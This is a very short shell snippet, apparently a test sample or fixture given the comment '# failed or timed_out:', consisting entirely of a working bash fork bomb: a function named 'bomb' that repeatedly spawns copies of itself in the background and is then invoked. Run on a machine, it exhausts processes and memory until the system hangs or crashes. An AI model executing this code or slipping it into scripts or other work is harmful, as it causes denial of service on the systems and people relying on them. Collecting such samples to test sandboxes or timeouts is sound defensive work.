# failed or timed_out:
bomb() {
    bomb | bomb &
    bomb
}
bomb
